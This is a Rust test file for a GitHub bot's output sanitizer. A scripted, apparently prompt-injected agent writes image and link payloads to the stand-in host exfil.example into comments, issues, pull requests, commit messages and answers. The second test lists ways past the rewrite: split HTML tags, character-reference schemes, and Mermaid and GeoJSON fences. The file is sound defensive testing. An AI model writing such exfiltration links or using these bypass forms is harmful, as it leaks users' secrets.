//! Links in what fro-bot posts (docs/security.md#links-in-what-fro-bot-posts), through the real
//! OpenCode: an injected agent writes data-bearing images and links into every text it has —
//! a comment, a new issue's title and body, the change's title and description (the pull request
//! and the commit message) and its answer. Each leaves with the URL shown as code; GitHub's own
//! host and `allowed-domains` stay links.

use serde_json::json;

use super::changes::{bash, tool};
use super::scenarios::{main_step, World};
use crate::support::action::{comment_event, explain, Launch};
use crate::support::fake_llm::Reply;

const EXFIL: &str = "https://exfil.example/p.png?d=c2VjcmV0";

/// `text` without its code spans (a run of backticks to the next run of the same length).
fn outside_code(text: &str) -> String {
    let b = text.as_bytes();
    let (mut out, mut i) = (Vec::new(), 0);
    while i < b.len() {
        let run = b[i..].iter().take_while(|c| **c == b'`').count();
        if run == 0 {
            out.push(b[i]);
            i += 1;
            continue;
        }
        let after = i + run;
        let close = (after..b.len()).find(|&j| {
            b[j - 1] != b'`' && b[j..].iter().take_while(|c| **c == b'`').count() == run
        });
        i = close.map_or(after, |j| j + run);
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// The comment the agent's `comment` tool posted: the one holding `needle`.
fn comment_with(world: &World, needle: &str) -> String {
    let comments = world.github.created_comments();
    comments
        .iter()
        .map(|(_, body)| body.clone())
        .find(|b| b.contains(needle))
        .unwrap_or_else(|| panic!("the comment tool's comment: {comments:?}"))
}

/// Nothing of the exfiltration host is left in `text` outside code (no link, no image, no bare
/// URL), and the text shows where one pointed.
fn assert_inert(what: &str, text: &str) {
    assert!(
        !outside_code(text).contains("exfil.example"),
        "{what} still links exfil.example: {text}"
    );
    assert!(
        text.contains("exfil.example"),
        "{what} still shows where it pointed: {text}"
    );
}

pub(crate) async fn every_text_the_agent_writes_leaves_with_its_foreign_links_inert(
    launch: Launch,
) {
    let world = World::start_with(launch).await;
    world.github.seed_issue(9, "Look into it", "x");
    let mut job = world.job(3400);
    job.set("GITHUB_SERVER_URL", world.github.url.clone());
    job.owned_by_runner_user(1001);
    job.input("allowed-domains", "docs.rs");
    world.github.seed_git_repo(&job.workspace());
    let own = format!("{}/octo/hello/issues/1", world.github.url);
    world.llm.push(Reply::tool(
        tool("comment"),
        json!({"number": 9, "body": format!("![chart]({EXFIL}) and [docs](https://docs.rs/url) and [#1]({own})")}),
    ));
    world.llm.push(Reply::tool(
        tool("create_issue"),
        json!({"title": "see www.exfil.example/t", "body": format!("<img src=\"{EXFIL}\">")}),
    ));
    world.llm.push(bash("printf 'hello world\\n' > README.md"));
    world.llm.push(Reply::tool(
        tool("describe_change"),
        json!({"title": "Greet [x](https://exfil.example/t)", "body": format!("Details: [here]({EXFIL})\n\n[r]: {EXFIL}")}),
    ));
    world.llm.push(Reply::text(format!(
        "Done. ![status](https://exfil.example/a.png?d=c2VjcmV0) See https://docs.rs/url. {own}"
    )));
    job.event("issue_comment", &comment_event(9, 901, "@fro-bot look"));
    let (_job, r) = main_step(job).await;
    assert_eq!(r.code, 0, "{}", explain(&r));

    let comment = &comment_with(&world, "chart");
    assert_inert("the comment", comment);
    assert!(comment.contains("[docs](https://docs.rs/url)"), "{comment}");
    assert!(comment.contains(&format!("[#1]({own})")), "{comment}");

    let issues = world.github.created_issues();
    assert_eq!(issues.len(), 1, "{issues:?}");
    assert_inert("the issue's title", issues[0]["title"].as_str().unwrap());
    assert_inert("the issue's body", issues[0]["body"].as_str().unwrap());

    let pulls = world.github.created_pulls();
    assert_eq!(pulls.len(), 1, "{}", explain(&r));
    assert_inert(
        "the pull request's title",
        pulls[0]["title"].as_str().unwrap(),
    );
    assert_inert(
        "the pull request's body",
        pulls[0]["body"].as_str().unwrap(),
    );
    let message = world.github.commit_message(r.output("commit-sha"));
    assert_inert("the commit message", &message);

    let answer = super::changes::answer(&world);
    assert_inert("the answer", &answer);
    assert!(answer.contains("https://docs.rs/url"), "{answer}");
    assert!(answer.contains(&own), "{answer}");
    assert!(
        r.summary.contains("| Links | ") && r.summary.contains("`exfil.example` ×"),
        "{}",
        r.summary
    );
}

/// What an injected agent writes to get a live tag or a rendered fence past the rewrite (issue
/// #42): a tag cut over two lines of a block quote and of a list item's quote, its scheme written
/// with a character reference; a block-level tag cut at the line's end after a quote's lazy
/// line; a Mermaid diagram with an image node and a GeoJSON map with a URL. Each puts
/// exfil.example on the page as GitHub renders it (checked below); the Mermaid diagram without a
/// URL at the end must stay as written.
const SPLIT_AND_FENCED: &str = "> quote <img\n> src=\"https&#58;//exfil.example/q.png?d=c2VjcmV0\">\n\n\
- item\n  > <img\n  > src=https&#x3A;//exfil.example/l.png>\n\n\
> x\n<table\nbackground=\"https&#58;//exfil.example/t.png\">\n\n\
```mermaid\ngraph TD\n  A[<img src='https://exfil.example/m.png?d=c2VjcmV0'>] --> B\n```\n\n\
~~~geojson\n{\"type\":\"Feature\",\"properties\":{\"marker\":\"https://exfil.example/g.png\"}}\n~~~\n\n";

const CLEAN_DIAGRAM: &str = "```mermaid\ngraph TD\n  C --> D\n```";

/// The URLs to exfil.example GitHub's parser would put on the page for `text`.
fn live_exfil(text: &str) -> Vec<String> {
    crate::outbound::live_urls(&[text.to_string()])
        .remove(0)
        .into_iter()
        .filter(|u| u.to_ascii_lowercase().contains("exfil.example"))
        .collect()
}

/// An injected agent's answer and its `comment` proposal carry the split-tag and fence forms:
/// both leave with no live link or image to exfil.example as GitHub's parser renders them, the
/// fences that held one are posted as code (`text mermaid`), the clean diagram stays as written,
/// and the summary's Links row counts them. Takes the launch, so the image can run it too.
pub(crate) async fn split_tags_and_rendered_fences_leave_with_nothing_live(launch: Launch) {
    let attack = format!("{SPLIT_AND_FENCED}{CLEAN_DIAGRAM}");
    // Each form is one as GitHub reads it.
    for form in SPLIT_AND_FENCED.split("\n\n").filter(|f| !f.is_empty()) {
        assert!(!live_exfil(form).is_empty(), "not live as written: {form}");
    }
    let world = World::start_with(launch).await;
    world.github.seed_issue(9, "Look into it", "x");
    let mut job = world.job(3410);
    job.set("GITHUB_SERVER_URL", world.github.url.clone());
    job.owned_by_runner_user(1001);
    job.input("allowed-domains", "docs.rs");
    world.github.seed_git_repo(&job.workspace());
    world.llm.push(Reply::tool(
        tool("comment"),
        json!({"number": 9, "body": format!("Proposal.\n\n{attack}")}),
    ));
    world.llm.push(Reply::text(format!("Done.\n\n{attack}")));
    job.event("issue_comment", &comment_event(9, 902, "@fro-bot look"));
    let (_job, r) = main_step(job).await;
    assert_eq!(r.code, 0, "{}", explain(&r));

    let comment = &comment_with(&world, "Proposal.");
    let answer = super::changes::answer(&world);
    for (what, text) in [("the comment", comment), ("the answer", &answer)] {
        assert_eq!(live_exfil(text), Vec::<String>::new(), "{what}: {text}");
        assert!(text.contains("```text mermaid"), "{what}: {text}");
        assert!(text.contains("~~~text geojson"), "{what}: {text}");
        assert!(text.contains(CLEAN_DIAGRAM), "{what}: {text}");
        assert!(text.contains("&lt;img"), "{what}: {text}");
    }
    assert!(
        r.summary.contains("| Links | ") && r.summary.contains("`exfil.example` ×"),
        "{}",
        r.summary
    );
}
